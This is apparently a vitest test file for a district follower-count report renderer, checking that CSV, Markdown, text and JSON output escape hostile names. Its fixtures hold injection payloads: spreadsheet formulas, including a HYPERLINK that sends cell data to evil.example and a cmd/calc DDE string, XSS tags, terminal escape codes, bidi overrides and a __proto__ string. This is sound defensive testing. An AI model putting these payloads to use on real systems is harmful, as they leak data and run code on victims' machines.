import { describe, expect, it } from 'vitest';
import { growth } from '../../src/aggregate/growth.js';
import { rank } from '../../src/aggregate/rank.js';
import { totals } from '../../src/aggregate/totals.js';
import { definePlatform } from '../../src/model/platform.js';
import { defineRegistry } from '../../src/model/registry.js';
import { emitCsv } from '../../src/report/emit.js';
import { type ReportFormat, renderReport } from '../../src/report/render-report.js';
import { snap } from '../fixtures.js';

const FORMATS: readonly ReportFormat[] = ['text', 'markdown', 'csv', 'json'];

/** A registry written by an attacker: formulas, Markdown, HTML, controls and bidi in the names. */
const hostile = defineRegistry({
  units: [
    { id: 'mp', kind: 'state', name: '=HYPERLINK("http://evil.example/?"&A1,"Madhya Pradesh")' },
    { id: 'indore', kind: '@SUM(1+1)', name: "-2+3+cmd|' /C calc'!A0", parent: 'mp' },
    { id: 'bhopal', kind: 'district', name: '+1+1', parent: 'mp' },
  ],
  accounts: [
    { id: 'indore-x', unit: 'indore', platform: 'x', handle: 'IndoreCollector' },
    { id: 'bhopal-x', unit: 'bhopal', platform: 'x', handle: 'BhopalCollector' },
  ],
});
const hostileBefore = [
  snap('indore-x', 'x', 5_000, '2026-10-01T00:00:00Z'),
  snap('bhopal-x', 'x', 3_000, '2026-10-01T00:00:00Z'),
];
const hostileAfter = [
  snap('indore-x', 'x', 3_800, '2026-11-01T00:00:00Z'),
  snap('bhopal-x', 'x', 3_100, '2026-11-01T00:00:00Z'),
];

describe('report escaping (issue #10, defect 9)', () => {
  it('defect 9: a custom platform named "constructor" renders in every format', () => {
    // `constructor` passes definePlatform's id rule; a plain-object lookup of it on a unit without
    // such an account found Object.prototype.constructor and crashed the text, Markdown and CSV.
    const ctor = definePlatform({
      id: 'constructor',
      name: { en: 'Ctor', hi: 'Ctor' },
      pattern: /^[a-z]+$/,
      rule: 'letters',
    });
    const registry = defineRegistry({
      platforms: [ctor],
      units: [
        { id: 'mp', kind: 'state', name: 'Madhya Pradesh' },
        { id: 'indore', kind: 'district', name: 'Indore', parent: 'mp' },
        { id: 'bhopal', kind: 'district', name: 'Bhopal', parent: 'mp' },
      ],
      accounts: [
        { id: 'indore-c', unit: 'indore', platform: 'constructor', handle: 'indore' },
        { id: 'bhopal-x', unit: 'bhopal', platform: 'x', handle: 'BhopalCollector' },
      ],
    });
    const before = [snap('indore-c', 'constructor', 10, '2026-10-01T00:00:00Z')];
    const after = [
      snap('indore-c', 'constructor', 12, '2026-11-01T00:00:00Z'),
      snap('bhopal-x', 'x', 5, '2026-11-01T00:00:00Z'),
    ];
    const t = totals(registry, after);
    for (const format of FORMATS) {
      const text = renderReport({ registry, totals: t, accounts: true }, { format });
      expect(text).toContain(format === 'json' || format === 'csv' ? 'constructor' : 'Ctor');
      renderReport({ registry, ranking: rank(registry, t, { kind: 'district' }) }, { format });
      renderReport({ registry, growth: growth(registry, before, after) }, { format });
    }
    const csv = renderReport({ registry, totals: t }, { format: 'csv' }).split('\r\n');
    expect(csv).toContain('bhopal,Bhopal,district,mp,x,,5,5,5,exact,1,1,');
    expect(csv.filter((line) => line.startsWith('bhopal,'))).toHaveLength(2); // all, x
  });

  it("defect 9: a CSV text cell starting with =, +, -, @, tab or CR is prefixed with ' and quoted", () => {
    const lines = renderReport(
      { registry: hostile, totals: totals(hostile, hostileAfter) },
      { format: 'csv' },
    ).split('\r\n');
    expect(lines).toContain(
      `mp,"'=HYPERLINK(""http://evil.example/?""&A1,""Madhya Pradesh"")",state,,all,,6900,6900,6900,exact,2,2,`,
    );
    expect(lines).toContain(
      `indore,"'-2+3+cmd|' /C calc'!A0","'@SUM(1+1)",mp,all,,3800,3800,3800,exact,1,1,`,
    );
    expect(lines).toContain(`bhopal,"'+1+1",district,mp,all,,3100,3100,3100,exact,1,1,`);
    // Tab and CR cannot reach a name through the registry (it trims), but the renderer is the
    // last line of defence for any text it is given.
    expect(emitCsv({ header: ['a', 'b', 'c'], rows: [['\t=1+1', '\r=1+1', ' =1+1']] })).toBe(
      `a,b,c\r\n"'\t=1+1","'\r=1+1","' =1+1"\r\n`,
    );
    expect(emitCsv({ header: ['a'], rows: [['＝1+1'], ['-'], ['@']] })).toBe(
      `a\r\n"'＝1+1"\r\n"'-"\r\n"'@"\r\n`,
    );
  });

  it('defect 9: CSV numbers stay bare numbers (negative growth too, so columns sum); text like "-1200" is neutralised', () => {
    const csv = renderReport(
      { registry: hostile, growth: growth(hostile, hostileBefore, hostileAfter) },
      { format: 'csv' },
    );
    const indore = csv.split('\r\n').find((line) => line.startsWith('indore,'))!;
    expect(indore).toBe(`indore,"'-2+3+cmd|' /C calc'!A0",all,5000,3800,-1200,-1200,-1200,-24,1,,`);
    expect(emitCsv({ header: ['n', 'text'], rows: [[-1200, '-1200']] })).toBe(
      `n,text\r\n-1200,"'-1200"\r\n`,
    );
  });

  it('defect 9: newlines, control characters and bidi overrides cannot break or reorder a text-table row', () => {
    const registry = defineRegistry({
      units: [
        { id: 'mp', kind: 'state', name: 'Madhya Pradesh' },
        // U+202E RIGHT-TO-LEFT OVERRIDE would show the figures after it reversed;
        // U+2066 LEFT-TO-RIGHT ISOLATE is never closed.
        { id: 'indore', kind: 'district', name: 'Indore \u202e0021\u202c \u2066', parent: 'mp' },
        // A newline would start a fake row; ESC sequences would clear or recolour the terminal.
        {
          id: 'bhopal',
          kind: 'district',
          name: 'Bhopal\nUjjain  99,99,999\r\n\u001b[2J\u001b[31mred\u0007\ttab\u2028end',
          parent: 'mp',
        },
      ],
      accounts: [],
    });
    const text = renderReport(
      { registry, totals: totals(registry, []) },
      { title: 'Title\nwith a line \u202ebreak' },
    );
    const lines = text.split('\n');
    expect(lines).toHaveLength(7); // title, header, rule, 3 units, and the '' after the last \n
    expect(lines[0]).toBe('Title with a line break');
    expect(lines[4]).toMatch(/^ {2}Indore 0021 {2}/);
    expect(lines[5]).toMatch(/^ {2}Bhopal Ujjain {2}99,99,999 \[2J\[31mred tab end\s+0\s+0\/0$/);
    // No control character but the line feeds, no bidi embedding, override or isolate.
    expect(text).not.toMatch(/(?!\n)\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u);
  });

  it('defect 9: a newline in a unit name cannot end a Markdown row or start a heading', () => {
    const registry = defineRegistry({
      units: [
        { id: 'mp', kind: 'state', name: 'Madhya Pradesh' },
        { id: 'indore', kind: 'district', name: 'Indore |\n## Fake heading\n- item', parent: 'mp' },
      ],
      accounts: [],
    });
    const md = renderReport(
      { registry, totals: totals(registry, []) },
      { format: 'markdown', title: 'Followers\n# Hacked' },
    );
    expect(md.split('\n')).toEqual([
      '### Followers # Hacked',
      '',
      '| Unit | Total | With figures |',
      '| --- | ---: | ---: |',
      '| Madhya Pradesh | 0 | 0/0 |',
      '| \u00a0\u00a0Indore \\| ## Fake heading - item | 0 | 0/0 |',
      '',
    ]);
  });

  it('defect 9: raw HTML in names, handles and platform names is written as entities in Markdown', () => {
    const anything = definePlatform({
      id: 'anything',
      name: { en: 'Any<b>thing</b>', hi: 'Any<b>thing</b>' },
      pattern: /^[\s\S]+$/,
      rule: 'anything',
    });
    const registry = defineRegistry({
      platforms: [anything],
      units: [{ id: 'mp', kind: 'state', name: '<img src=x onerror=alert(1)> & <!-- hidden -->' }],
      accounts: [{ id: 'mp-a', unit: 'mp', platform: 'anything', handle: '<script>x</script>' }],
    });
    const md = renderReport(
      { registry, totals: totals(registry, []), accounts: true },
      { format: 'markdown' },
    );
    expect(md).not.toMatch(/[<>]/);
    expect(md).toContain(
      '| &lt;img src=x onerror=alert(1)&gt; &amp; &lt;!-- hidden --&gt; | no figure |',
    );
    expect(md).toContain('| Unit | Any&lt;b&gt;thing&lt;/b&gt; | Total | With figures |');
    expect(md).toContain(
      '- No figure (not counted as zero): Any&lt;b&gt;thing&lt;/b&gt; &lt;script&gt;x&lt;/script&gt;',
    );
  });

  it('defect 9: Markdown links, code, emphasis, mentions and list markers in names are escaped; words stay readable', () => {
    const registry = defineRegistry({
      units: [
        {
          id: 'mp',
          kind: 'state',
          name: '[Click](javascript:alert(1)) ![i](x) `code` **b** _e_ ~~s~~ @everyone Collector_Indore dm@mp.gov.in C:\\dir\\ #5 #',
        },
        { id: 'indore', kind: 'district', name: '- 1. Indore', parent: 'mp' },
        { id: 'bhopal', kind: 'district', name: '# 2) Bhopal', parent: 'mp' },
        { id: 'ujjain', kind: 'district', name: '3. उज्जैन_ज़िला *', parent: 'mp' },
      ],
      accounts: [],
    });
    const lines = renderReport(
      { registry, totals: totals(registry, []) },
      { format: 'markdown', title: '+ Title' },
    ).split('\n');
    expect(lines[0]).toBe('### \\+ Title');
    expect(lines[4]).toBe(
      '| \\[Click\\](javascript:alert(1)) !\\[i\\](x) \\`code\\` \\*\\*b\\*\\* \\_e\\_ \\~\\~s\\~\\~ \\@everyone Collector_Indore dm@mp.gov.in C:\\\\dir\\\\ #5 \\# | 0 | 0/0 |',
    );
    expect(lines[5]).toBe('| \u00a0\u00a0\\- 1. Indore | 0 | 0/0 |');
    expect(lines[6]).toBe('| \u00a0\u00a0\\# 2) Bhopal | 0 | 0/0 |');
    expect(lines[7]).toBe('| \u00a0\u00a03\\. उज्जैन_ज़िला \\* | 0 | 0/0 |');
  });

  it('defect 9: JSON writes <, >, & and U+2028/U+2029 as \\u escapes, so it is safe inside an HTML <script>', () => {
    const name = '</script><script>alert(1)</script> & \u2028\u2029 end';
    const registry = defineRegistry({
      units: [{ id: 'mp', kind: 'state', name }],
      accounts: [],
    });
    const json = renderReport({ registry, totals: totals(registry, []) }, { format: 'json' });
    expect(json).not.toMatch(/[<>&\u2028\u2029]/);
    expect(json).toContain(
      '"name": "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\u0026 \\u2028\\u2029 end"',
    );
    expect(JSON.parse(json).units[0].name).toBe(name);
  });

  it('JSON is safe by construction: hostile text round-trips exactly; keys are field names or platform ids', () => {
    const note = '"},"__proto__":{"admin":true},"x":{"';
    const after = hostileAfter.map((s) => ({ ...s, source: { provider: 'static', note } }));
    const t = totals(hostile, after);
    const g = growth(hostile, hostileBefore, after);
    const keys = new Set<string>();
    const walk = (value: unknown, platformKeys: boolean): void => {
      if (Array.isArray(value)) for (const item of value) walk(item, false);
      else if (typeof value === 'object' && value !== null) {
        for (const [key, child] of Object.entries(value)) {
          if (platformKeys) expect(hostile.platform(key)).toBeDefined();
          else keys.add(key);
          walk(child, key === 'byPlatform');
        }
      }
    };
    for (const report of [
      { registry: hostile, totals: t, accounts: true },
      { registry: hostile, ranking: rank(hostile, t, { kind: 'district' }) },
      { registry: hostile, growth: g },
    ]) {
      const parsed = JSON.parse(renderReport(report, { format: 'json' }));
      expect(Object.getPrototypeOf(parsed)).toBe(Object.prototype);
      walk(parsed, false);
    }
    for (const key of keys) expect(key).toMatch(/^[a-z][A-Za-z]*$/);
    expect(keys).not.toContain('__proto__');
    const parsed = JSON.parse(
      renderReport({ registry: hostile, totals: t, accounts: true }, { format: 'json' }),
    );
    expect(parsed.units.map((u: { name: string }) => u.name)).toEqual(
      hostile.units.map((u) => u.name),
    );
    expect(parsed.units[1].accounts[0].source).toEqual({ provider: 'static', note });
  });
});
